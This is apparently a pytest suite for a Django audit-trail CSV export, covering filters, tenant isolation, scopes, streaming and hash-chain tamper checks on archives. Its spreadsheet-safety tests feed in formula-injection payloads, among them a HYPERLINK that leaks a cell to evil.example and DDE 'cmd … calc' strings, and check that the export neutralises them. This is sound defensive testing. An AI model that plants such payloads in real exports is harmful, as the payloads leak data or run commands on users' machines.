"""GET /audit/export.csv: the organization's audit trail as one streamed CSV file that
compliance staff open in a spreadsheet: every column, the same filters as /audit/events, no
other organization's rows, nothing without the audit scope, no cell a spreadsheet would run
as a formula, and enough in each row for `verify_audit --archive` to prove the file intact."""

import csv
import io
import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from unittest.mock import patch

import pytest
from asgiref.sync import async_to_sync
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import transaction
from django.test import AsyncClient

from audit.export import BOM, EXPORT_COLUMNS, encode_rows, neutralise_cell, restore_cell
from audit.models import AuditCheckpoint, AuditEvent
from audit.selectors import audit_event_batches, sealed_events
from audit.services import audit_record
from decisions.services import decision_answer
from organizations.services import api_key_create
from tests.conftest import ALICE, BOB, client_for
from tests.factories import DecisionFactory
from tests.helpers import seal

# The export holds sealed events (audit/sealing.py), and sealing links only committed ones.
pytestmark = pytest.mark.django_db(transaction=True)

T0 = datetime(2030, 1, 1, 12, 0, tzinfo=UTC)
COLUMNS = [
    "time",
    "organization",
    "decision_id",
    "action",
    "event",
    "actor",
    "channel",
    "choice",
    "note",
    "ip",
    "user_agent",
    "prev_hash",
    "hash",
    "seq",
    "organization_id",
    "payload",
    "content_hash",
]


def record(organization, *, at: datetime, event: str = "note.added", actor: str = "system", **fields):
    with patch("audit.services.timezone.now", return_value=at), transaction.atomic():
        return audit_record(organization_id=organization.pk, event=event, actor=actor, **fields)


def answer(decision, address: str, choice: str = "approve", note: str = "", **extra):
    request = decision.requests.get(address=address)
    return decision_answer(request_id=request.pk, choice=choice, note=note, via="email", **extra)


def body_of(response) -> str:
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def parse(body: str) -> list[dict]:
    assert body.startswith(BOM)
    return list(csv.DictReader(io.StringIO(body.removeprefix(BOM), newline="")))


def export(client, **params) -> list[dict]:
    seal()
    return parse(body_of(client.get("/audit/export.csv", params)))


@pytest.fixture
def auditor(acme):
    return client_for(api_key_create(organization=acme, scopes=["audit"], name="compliance")[1])


# --- the file -----------------------------------------------------------------------------


def test_the_file_is_a_utf8_csv_download_with_a_bom_and_a_header(auditor, acme):
    record(acme, at=T0)

    response = auditor.get("/audit/export.csv")
    body = body_of(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-acme-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert response["Cache-Control"] == "no-store"
    assert body.startswith(BOM)
    assert body.removeprefix(BOM).split("\r\n")[0] == ",".join(COLUMNS)
    assert list(EXPORT_COLUMNS) == COLUMNS


def test_an_empty_trail_is_the_header_alone(auditor):
    assert export(auditor) == []


def test_one_row_per_event_in_chain_order(acme_key, auditor):
    decision = DecisionFactory(api_key=acme_key[0])
    answer(decision, ALICE)

    rows = export(auditor)

    stored = list(sealed_events().filter(organization=acme_key[0].organization).order_by("seq"))
    assert len(rows) == len(stored)
    assert [int(r["seq"]) for r in rows] == [e.seq for e in stored]
    assert [r["hash"] for r in rows] == [e.hash for e in stored]
    assert [r["prev_hash"] for r in rows] == [e.prev_hash for e in stored]
    assert [r["content_hash"] for r in rows] == [e.content_hash for e in stored]


def test_the_columns_of_an_answer(acme_key, auditor):
    """Who was asked, when they answered, what they decided, from where: one row says it."""
    decision = DecisionFactory(api_key=acme_key[0], action="Refund €120 to Zoë")
    answer(decision, ALICE, note="ok, checked the invoice", ip="203.0.113.7", user_agent="Mozilla/5.0 (Mac)")

    rows = export(auditor)

    row = next(r for r in rows if r["event"] == "decision.answered")
    stored = sealed_events().get(organization=acme_key[0].organization, event="decision.answered")
    assert row["time"] == stored.created_at.astimezone(UTC).isoformat(timespec="microseconds").replace(
        "+00:00", "Z"
    )
    assert row["organization"] == "acme"
    assert row["decision_id"] == decision.pk
    assert row["action"] == "Refund €120 to Zoë"
    assert row["actor"] == ALICE
    assert row["channel"] == "email"
    assert row["choice"] == "approve"
    assert row["note"] == "ok, checked the invoice"
    assert row["ip"] == "203.0.113.7"
    assert row["user_agent"] == "Mozilla/5.0 (Mac)"
    assert row["prev_hash"] == stored.prev_hash
    assert row["hash"] == stored.hash
    assert row["seq"] == str(stored.seq)
    assert row["organization_id"] == str(acme_key[0].organization_id)
    assert row["payload"] == stored.payload
    # who was asked, and when, is in the rows before it
    asked = next(r for r in rows if r["event"] == "approver.asked")
    assert asked["decision_id"] == decision.pk
    assert ALICE in asked["payload"]
    assert asked["time"] <= row["time"]


def test_events_without_those_payload_keys_leave_their_cells_empty(acme, auditor):
    record(acme, at=T0, payload={"something": "else"})

    (row,) = export(auditor)

    assert (row["decision_id"], row["action"], row["choice"], row["note"], row["ip"], row["user_agent"]) == (
        "",
        "",
        "",
        "",
        "",
        "",
    )
    assert row["time"] == "2030-01-01T12:00:00.000000Z"


def test_a_note_with_commas_quotes_and_newlines_survives(acme_key, auditor):
    decision = DecisionFactory(api_key=acme_key[0])
    note = 'Approved, "reluctantly".\nCall me first next time;\r\nthanks'
    answer(decision, ALICE, note=note)

    row = next(r for r in export(auditor) if r["event"] == "decision.answered")

    assert row["note"] == note


# --- filters ------------------------------------------------------------------------------


@pytest.fixture
def three_hours(acme):
    return [record(acme, at=T0 + timedelta(hours=h), payload={"note": f"{12 + h}:00"}) for h in range(3)]


def test_time_filters(auditor, three_hours):
    window = export(auditor, **{"from": "2030-01-01T13:00:00Z", "to": "2030-01-01T14:00:00Z"})
    since = export(auditor, **{"from": "2030-01-01T13:00:00Z"})
    until = export(auditor, to="2030-01-01T13:00:00Z")

    assert [r["note"] for r in window] == ["13:00"]
    assert [r["note"] for r in since] == ["13:00", "14:00"]
    assert [r["note"] for r in until] == ["12:00"]


def test_decision_event_and_actor_filters(acme_key, auditor):
    refund = DecisionFactory(api_key=acme_key[0], action="Refund", approvers=(ALICE, BOB))
    DecisionFactory(api_key=acme_key[0], action="Deploy")
    answer(refund, BOB, choice="deny")

    by_decision = export(auditor, decision=refund.pk)
    by_event = export(auditor, event="decision.created")
    by_actor = export(auditor, actor=BOB, event="decision.answered")

    assert {r["decision_id"] for r in by_decision} == {refund.pk}
    assert len(by_decision) == AuditEvent.objects.filter(decision=refund).count()
    assert [r["action"] for r in by_event] == ["Refund", "Deploy"]
    assert [(r["actor"], r["choice"]) for r in by_actor] == [(BOB, "deny")]


# --- isolation, scope, bad input ----------------------------------------------------------


def test_only_the_keys_organization_is_exported(acme_key, globex_key, auditor):
    DecisionFactory(api_key=acme_key[0], action="Acme refund")
    DecisionFactory(api_key=globex_key[0], action="Globex payroll run")

    rows = export(auditor)

    assert rows
    assert {r["organization"] for r in rows} == {"acme"}
    assert {r["action"] for r in rows} == {"Acme refund"}


def test_another_organizations_decision_id_exports_nothing(acme_key, globex_key, auditor):
    DecisionFactory(api_key=acme_key[0], action="Acme refund")
    globex_decision = DecisionFactory(api_key=globex_key[0], action="Globex payroll run")

    assert export(auditor, decision=globex_decision.pk) == []


def test_a_key_without_the_audit_scope_is_403_in_json(acme):
    decisions_only = client_for(api_key_create(organization=acme, scopes=["decisions"])[1])

    response = decisions_only.get("/audit/export.csv", HTTP_ACCEPT="text/csv")

    assert response.status_code == 403
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["error"]["code"] == "permission_denied"


def test_no_key_is_401(db):
    response = client_for(None).get("/audit/export.csv")

    assert response.status_code == 401
    assert response.json()["error"]["code"] == "not_authenticated"


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "last tuesday"}, "from"),
        ({"to": "2030-01-01T25:00:00Z"}, "to"),
        ({"from": "2030-01-02", "to": "2030-01-01"}, "from"),
        ({"format": "xlsx"}, "format"),
        ({"cursor": "abc"}, "cursor"),  # the CSV is not paginated
        ({"decision": "\x00"}, "decision"),
    ],
    ids=["bad-from", "bad-to", "from-after-to", "unknown-filter", "cursor", "nul"],
)
def test_bad_filters_are_400_in_json_even_when_csv_is_accepted(auditor, params, field):
    response = auditor.get("/audit/export.csv", params, HTTP_ACCEPT="text/csv")

    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    error = response.json()["error"]
    assert error["code"] == "invalid"
    assert field in error["fields"]


# --- spreadsheet safety -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_cells_are_neutralised_and_can_be_restored(value, cell):
    assert neutralise_cell(value) == cell
    assert restore_cell(cell) == value


def test_no_exported_cell_starts_like_a_formula(acme_key, auditor):
    decision = DecisionFactory(
        api_key=acme_key[0], action='=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    )
    answer(
        decision,
        ALICE,
        note="+cmd|' /C calc'!A0",
        ip="-2+3",
        user_agent="@SUM(1+1)*cmd|' /C calc'!A0",
        answered_by="=alice",
    )

    rows = export(auditor)

    row = next(r for r in rows if r["event"] == "decision.answered")
    assert row["action"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["note"] == "'+cmd|' /C calc'!A0"
    assert row["ip"] == "'-2+3"
    assert row["user_agent"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["actor"] == "'=alice"
    for exported in rows:
        for value in exported.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_the_fast_csv_writer_writes_what_csv_writer_writes():
    """encode_rows quotes by hand for speed: for any cells, its bytes are csv.writer's."""
    alphabet = ["a", "Z", "é", "€", " ", ",", '"', "'", "=", "\r", "\n", "\r\n", "\t", ";", "{", "}"]
    rng = random.Random(7)
    rows = [
        ["".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 8))) for _ in range(16)]
        for _ in range(2000)
    ]
    expected = io.StringIO()
    csv.writer(expected).writerows(rows)

    assert encode_rows(rows) == expected.getvalue().encode()


# --- streaming ----------------------------------------------------------------------------


def test_batches_cover_every_event_once_organization_by_organization(acme, globex):
    for n in range(5):
        record(acme, at=T0, payload={"n": n})
        record(globex, at=T0, payload={"n": n})
    seal()

    batches = list(
        audit_event_batches(
            AuditEvent.objects.all(),
            organization_ids=[acme.pk, globex.pk],
            fields=("organization_id", "seq"),
            size=2,
        )
    )

    assert [len(b) for b in batches] == [2, 2, 1, 2, 2, 1]
    assert [row for batch in batches for row in batch] == [(acme.pk, s) for s in range(1, 6)] + [
        (globex.pk, s) for s in range(1, 6)
    ]


def test_under_asgi_the_file_is_streamed_by_an_async_iterator_with_the_same_content(acme_key, auditor):
    """Under uvicorn, Django would read a synchronous iterator into memory before sending
    anything: the ASGI response must be asynchronous, and say the same."""
    decision = DecisionFactory(api_key=acme_key[0])
    answer(decision, ALICE, note="ok")
    raw_key = api_key_create(organization=acme_key[0].organization, scopes=["audit"])[1]
    seal()

    async def download() -> tuple[bool, str]:
        response = await AsyncClient().get(
            "/audit/export.csv", headers={"Authorization": f"Bearer {raw_key}"}
        )
        assert response.status_code == 200
        chunks = [chunk async for chunk in response.streaming_content]
        return response.is_async, b"".join(chunks).decode()

    is_async, body = async_to_sync(download)()

    assert is_async
    assert parse(body) == export(auditor)


# --- archives: verify_audit --archive -----------------------------------------------------


@pytest.fixture
def archive(acme_key, auditor, tmp_path) -> Path:
    """Acme's whole trail as a file, with an answer whose cells a spreadsheet would escape."""
    decision = DecisionFactory(api_key=acme_key[0], action="=Refund order #1042")
    answer(decision, ALICE, note="-ok-", answered_by="@alice")
    seal()
    path = tmp_path / "acme-audit.csv"
    path.write_bytes(b"".join(auditor.get("/audit/export.csv").streaming_content))
    return path


def verify_archive(path: Path, *args: str) -> str:
    out = io.StringIO()
    call_command("verify_audit", "--archive", str(path), *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def edit(path: Path, change) -> None:
    """Play the tamperer: rewrite the file's rows through change(rows)."""
    text = path.read_text(encoding="utf-8").removeprefix(BOM)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    change(rows)
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    path.write_text(BOM + out.getvalue(), encoding="utf-8")


def newest_checkpoint(organization) -> AuditCheckpoint:
    return AuditCheckpoint.objects.filter(organization=organization).order_by("-size").first()


def test_an_untouched_archive_verifies_against_the_recorded_chain_head(archive, acme):
    head = newest_checkpoint(acme)

    output = verify_archive(
        archive, "--org", str(acme.pk), "--head-hash", head.head_hash, "--against-database"
    )

    assert f"archive intact: organization {acme.pk} (acme) events #1..#{head.size}" in output
    assert head.head_hash in output


def test_an_archive_checks_offline_against_signed_checkpoints(archive, acme, tmp_path):
    # given the checkpoints as an auditor keeps them (the storage sink's files) and the key
    from audit import signing
    from audit.checkpoints import checkpoint_document

    folder = tmp_path / "checkpoints"
    folder.mkdir()
    for checkpoint in AuditCheckpoint.objects.filter(organization=acme):
        (folder / f"{checkpoint.size}.json").write_text(json.dumps(checkpoint_document(checkpoint)))
    key = signing.public_key_text()

    # then the untouched file matches every checkpoint it reaches ...
    output = verify_archive(archive, "--checkpoints", str(folder), f"--public-key={key}")
    assert (
        f"{AuditCheckpoint.objects.filter(organization=acme).count()} signed checkpoint(s) matched" in output
    )

    # ... and a file whose chain was recomputed after an edit does not
    def recompute(rows):
        from audit.chain import GENESIS_HASH, content_hash, link_hash

        header, prev = rows[0], GENESIS_HASH
        rows[2][header.index("actor")] = "mallory@example.com"
        for row in rows[1:]:
            cells = dict(zip(header, row, strict=True))
            digest = content_hash(
                organization_id=int(cells["organization_id"]),
                created_at=datetime.fromisoformat(cells["time"]),
                decision_id=cells["decision_id"] or None,
                event=cells["event"],
                actor=cells["actor"],
                channel=cells["channel"],
                payload=cells["payload"],
            )
            row[header.index("prev_hash")] = prev
            row[header.index("content_hash")] = digest
            row[header.index("hash")] = prev = link_hash(
                prev_hash=prev, seq=int(cells["seq"]), content_hash=digest
            )

    edit(archive, recompute)
    errors = io.StringIO()
    with pytest.raises(CommandError, match="NOT intact"):
        call_command(
            "verify_audit",
            "--archive",
            str(archive),
            "--checkpoints",
            str(folder),
            f"--public-key={key}",  # "=": a base64url key may begin with "-"
            stdout=io.StringIO(),
            stderr=errors,
        )
    assert "disagrees with the checkpoint" in errors.getvalue()


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (lambda rows: rows[-1].__setitem__(COLUMNS.index("note"), "changed my mind"), "note does not match"),
        (
            lambda rows: rows[3].__setitem__(
                COLUMNS.index("payload"), rows[3][COLUMNS.index("payload")] + " "
            ),
            "the row was altered",
        ),
        (
            lambda rows: rows[3].__setitem__(COLUMNS.index("actor"), "mallory@example.com"),
            "the row was altered",
        ),
        (lambda rows: rows[3].__setitem__(COLUMNS.index("time"), "2030-01-01T00:00:00.000000Z"), "altered"),
        (
            lambda rows: rows[-1].__setitem__(COLUMNS.index("action"), "Refund order #9999"),
            "action does not match",
        ),
        (lambda rows: rows.pop(2), "rows were removed"),
        (lambda rows: rows.insert(2, list(rows[2])), "rows were removed, inserted or reordered"),
    ],
    ids=["readable-note", "payload", "actor", "time", "action", "row-removed", "row-duplicated"],
)
def test_a_tampered_archive_fails(archive, change, problem):
    edit(archive, change)

    errors = io.StringIO()
    with pytest.raises(CommandError, match="NOT intact"):
        call_command("verify_audit", "--archive", str(archive), stdout=io.StringIO(), stderr=errors)

    assert problem in errors.getvalue()


def test_an_archive_cut_short_fails_against_the_recorded_head(archive, acme):
    head = newest_checkpoint(acme)
    edit(archive, lambda rows: rows.pop())

    with pytest.raises(CommandError, match="NOT intact"):
        verify_archive(archive, "--org", str(acme.pk), "--head-hash", head.head_hash)


def test_a_file_that_is_not_an_export_is_refused(tmp_path, db):
    path = tmp_path / "other.csv"
    path.write_text("a,b\n1,2\n")

    with pytest.raises(CommandError, match="not an audit export"):
        verify_archive(path)
